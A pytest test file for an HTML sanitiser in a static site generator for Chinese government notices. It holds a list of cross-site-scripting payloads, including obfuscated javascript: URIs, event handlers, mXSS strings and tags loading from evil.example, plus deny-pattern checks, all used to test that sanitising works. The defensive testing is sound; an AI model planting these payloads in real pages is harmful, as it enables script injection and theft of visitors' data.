"""Untrusted HTML: planted scripts never reach a page, and the clerk is told at which line."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from tests.conftest import output_text, run, write_record
from zonegen.markdown import render
from zonegen.safety.html import allow_listed

FRONT = """\
title: 关于开展春季植树活动的通知
index_no: 11330000000000000X/2025-00030
created: 2025-03-01
published: 2025-03-03
kind: 工作动态
"""

# Each vector runs payloadN() if any of it survives; none may reach any output file.
VECTORS = [
    "<script>payload1()</script>",
    "<SCRIPT SRC=https://evil.example/payload2.js></SCRIPT>",
    "<img src=x onerror=payload3()>",
    "<img/src=x/onerror=payload4()>",
    '<a href="javascript:payload5()">点击</a>',
    '<a href="jav&#x09;ascript:payload6()">点击</a>',
    '<a href=" JaVaScRiPt:payload7()">点击</a>',
    '<iframe src="https://evil.example/payload8"></iframe>',
    '<object data="https://evil.example/payload9.swf"></object>',
    '<embed src="https://evil.example/payload10.swf">',
    '<form action="https://evil.example/payload11"><input name="身份证"><button>提交</button></form>',
    '<div onclick="payload12()">div</div>',
    '<svg onload="payload13()"><circle r="1"/></svg>',
    '<a href="data:text/html;base64,PHNjcmlwdD5wYXlsb2FkMTQoKTwvc2NyaXB0Pg==">payload14</a>',
    "![图](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cGF5bG9hZDE1KCk+)",
    '<style>body{background:url("https://evil.example/payload16")}</style>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/payload17">',
    '<base href="https://evil.example/payload18/">',
    '<link rel="stylesheet" href="https://evil.example/payload19.css">',
    '<p style="background:url(javascript:payload20())">样式</p>',
    "<math><mtext><table><mglyph><style><img src=x onerror=payload21()>",
    '<noscript><p title="</noscript><img src=x onerror=payload22()>">',
    '<details open ontoggle="payload23()">x</details>',
    '<span style="display:none">payload24</span>',
]


def page_body(html: str) -> str:
    return render(html, "content/x.md", 1).html


@pytest.mark.parametrize("vector", VECTORS)
def test_vector_is_neutralised(vector: str) -> None:
    html = page_body(f"正文开头\n\n{vector}\n\n正文结尾\n")
    lowered = html.lower()
    tags = " ".join(re.findall(r"<[^>]*>", lowered))  # escaped text (&lt;…) is harmless
    assert "javascript:" not in tags and "data:" not in tags and "payload" not in tags
    assert not re.search(r"\son[a-z]+\s*=", tags)
    for tag in (
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "button",
        "svg",
        "math",
        "style",
        "meta",
        "base",
        "link",
        "noscript",
        "details",
    ):
        assert f"<{tag}" not in lowered, tag
    assert "display:none" not in lowered.replace(" ", "")
    # A script's text is dropped with it, not left on the page.
    assert not re.search(r"payload\d+\(", re.sub(r"&lt;.*?&gt;", "", html))


def test_unsafe_html_is_a_warning_at_its_line(minimal: Path) -> None:
    body = (
        "第一段。\n\n<p>第二段<img src=#top onerror=payload()></p>\n\n<div>\n<script>\npayload()\n</script>\n</div>\n"
    )
    write_record(minimal, "notices/tree.md", FRONT, body)
    result = run(minimal, "check", "--format", "json")
    assert result.code == 0  # warnings: the build goes on without the unsafe parts
    found = [(d["code"], d["line"], d["column"], d["message"]) for d in result.diagnostics]
    # front matter is lines 2–6; the body starts on line 9
    assert found == [
        ("html-unsafe", 11, 7, "已删除不安全的 HTML：<img> 上的事件属性 onerror"),
        ("html-unsafe", 14, 1, "已删除不安全的 HTML：脚本（<script>）"),
    ]
    assert run(minimal, "build", "--strict").code == 1
    assert run(minimal, "build").code == 0
    page = (minimal / "public/_records/2025-00030.html").read_text(encoding="utf-8")
    assert "第二段" in page and "payload" not in page


def test_word_formatting_is_stripped_with_one_warning(minimal: Path) -> None:
    body = (
        '<p class="MsoNormal" style="text-align:center"><span lang="EN-US" '
        'style="font-family:宋体;color:red">居中的标题</span><o:p></o:p></p>\n\n'
        '<font face="宋体">旧式字体</font>\n'
    )
    write_record(minimal, "notices/tree.md", FRONT, body)
    result = run(minimal, "check", "--format", "json")
    [warning] = result.diagnostics
    assert warning["code"] == "html-unsupported" and warning["line"] == 9
    assert "<p> 的 class 属性" in warning["message"] and "<font> 标签" in warning["message"]
    run(minimal, "build")
    page = (minimal / "public/_records/2025-00030.html").read_text(encoding="utf-8")
    assert '<p style="text-align:center"><span lang="EN-US">居中的标题</span></p>' in page
    assert "旧式字体" in page and "<font" not in page


def test_safe_html_passes_without_warnings(minimal: Path) -> None:
    body = (
        '<table><tr><th>项目</th><th colspan="2">金额</th></tr>'
        "<tr><td>办公费</td><td>1200</td><td>元</td></tr></table>\n\n"
        '正文<sup>1</sup>，见<a href="https://www.gov.cn/">中国政府网</a>。<br>\n'
    )
    write_record(minimal, "notices/tree.md", FRONT, body)
    result = run(minimal, "check", "--format", "json")
    assert result.diagnostics == []
    run(minimal, "build")
    page = (minimal / "public/_records/2025-00030.html").read_text(encoding="utf-8")
    assert '<th colspan="2">金额</th>' in page and '<a href="https://www.gov.cn/">中国政府网</a>' in page


def test_text_of_raw_html_blocks_feeds_summary_and_body_check(minimal: Path) -> None:
    write_record(minimal, "notices/tree.md", FRONT, "<div><p>只有 HTML 的正文<script>hidden()</script></p></div>\n")
    assert run(minimal, "check").code == 0
    run(minimal, "build")
    out = output_text(minimal / "public")
    assert "只有 HTML 的正文" in out and "hidden()" not in out


def test_markdown_output_is_unchanged_by_sanitising() -> None:
    """Sanitising only runs for bodies with raw HTML, and keeps what Markdown itself made."""
    source = "# 标题\n\n| 左 | 右 |\n|:-|-:|\n| 1 | 2 |\n\n```python\nx<1\n```\n\n[链接](a.md) ![图](b.png)\n"
    plain = render(source, "x.md", 1).html
    mixed = render(source + "\n<span>x</span>\n", "x.md", 1).html
    assert mixed.startswith(plain.replace(" />", ">").rstrip("\n"))
    assert '<code class="language-python">' in mixed and 'href="a.md"' in mixed


def test_unmatched_backtick_in_a_link_label_renders(capfd) -> None:  # type: ignore[no-untyped-def]
    """markdown-it.rs panics on "[`"; the body still renders, with no Rust backtrace shown."""
    from zonegen.markdown import render

    for body in ["[`", "见附件[`名单", "a [`x` y](u) 和 [`"]:
        result = render(body, "x.md", 1)
        assert "`" in result.text or "x" in result.text
    assert "panicked" not in capfd.readouterr().err


# --- the allow-list at the end, whatever the Markdown walk caught (issue 9) ----------------


def _active(html: str) -> list[str]:
    tags = " ".join(re.findall(r"<[^>]*>", html.lower()))
    words = ("javascript:", "data:", "display", "<script", "<iframe", "<svg", "<object", "<embed", "<form", "<style")
    found = [word for word in (*words, "<meta", "<base", "<link", "<details", "<math") if word in tags]
    return found + re.findall(r"\son[a-z]+\s*=", tags)


@pytest.mark.parametrize("vector", VECTORS)
def test_the_final_allow_list_alone_neutralises_every_vector(vector: str) -> None:
    """Straight into a record's HTML, as if the Markdown walk had missed it."""
    assert _active(allow_listed(f"<p>正文</p>\n{vector}\n<p>结尾</p>")) == []


def test_markdown_output_is_proven_safe_and_left_as_written() -> None:
    body = '# 标题\n\n| 左 | 右 |\n|:--|--:|\n| [链接](a.md) | ![图](b.png "说明") |\n\n```python\nx = 1\n```\n'
    html = page_body(body)
    assert allow_listed(html) is html  # no second parse for what markdown-it writes


def test_a_body_the_walk_missed_is_cleaned_before_it_is_published(minimal: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    import zonegen.markdown

    monkeypatch.setattr(zonegen.markdown, "sanitize", lambda html: html)  # a walk that lets all through
    write_record(
        minimal, "notices/xss.md", FRONT, '正文。\n\n<p onclick="payload()">段落</p>\n\n<script>payload()</script>\n'
    )
    assert run(minimal, "build").code == 0
    page = (minimal / "public/_records/2025-00030.html").read_text(encoding="utf-8")
    assert "段落" in page
    assert "payload" not in page and "onclick" not in page
